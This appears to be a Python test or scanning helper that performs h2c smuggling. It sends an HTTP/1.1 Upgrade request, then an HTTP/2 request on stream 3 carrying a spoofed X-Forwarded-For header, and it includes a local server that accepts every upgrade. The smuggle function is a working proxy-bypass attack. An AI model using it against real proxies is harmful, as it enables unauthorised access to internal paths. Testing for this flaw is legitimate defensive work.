"""An HTTP/2 client that attempts h2c smuggling: a tunnel through a proxy by an upgrade."""

import re
import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from h2.connection import H2Connection
from h2.events import ResponseReceived
from h2.exceptions import ProtocolError

UPGRADES = ("h2c", "H2C", "h2c, websocket", "websocket, h2c", "HTTP/2.0", "TLS/1.3")


def smuggle(connection: socket.socket, host: str, upgrade: str, path: str) -> tuple[int, list[str]]:
    """Return the status of the upgrade, and those of the HTTP/2 requests after it."""
    client = H2Connection()
    settings = (client.initiate_upgrade_connection() or b"").decode()
    lines = [
        "GET /health/live HTTP/1.1",
        f"Host: {host}",
        f"Upgrade: {upgrade}",
        "Connection: Upgrade, HTTP2-Settings",
        f"HTTP2-Settings: {settings}",
    ]
    with connection:
        connection.settimeout(10)
        connection.sendall("\r\n".join([*lines, "", ""]).encode())
        status, rest = read_answer(connection)
        own = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)]
        client.send_headers(3, [*own, ("x-forwarded-for", "6.6.6.6")], end_stream=True)
        connection.sendall(client.data_to_send())
        return status, answers(client, connection, rest)


def read_answer(connection: socket.socket) -> tuple[int, bytes]:
    """Read an HTTP/1.1 response; return its status and the bytes after it."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += connection.recv(65536) or b"\r\n\r\n"
    head, _, rest = data.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    return status, rest[int(length[1]) if length else 0 :]


def answers(client: H2Connection, connection: socket.socket, data: bytes) -> list[str]:
    """Read HTTP/2; return the statuses on the stream of the second request."""
    try:
        while True:
            for event in client.receive_data(data):
                if isinstance(event, ResponseReceived) and event.stream_id == 3:
                    return [dict(event.headers or ())[b":status"].decode()]
            connection.sendall(client.data_to_send())
            data = connection.recv(65536)
            if not data:
                return []
    except (ProtocolError, OSError):
        return []


class Credulous(BaseHTTPRequestHandler):
    """Accepts every upgrade, as a vulnerable server does."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Return 101 to upgrade requests, else 200."""
        self.send_response(101 if "Upgrade" in self.headers else 200)
        self.send_header("Upgrade", self.headers.get("Upgrade", ""))
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        """Log nothing."""


@contextmanager
def credulous_server() -> Generator[int]:
    """Run such a server, and return its port."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Credulous) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()
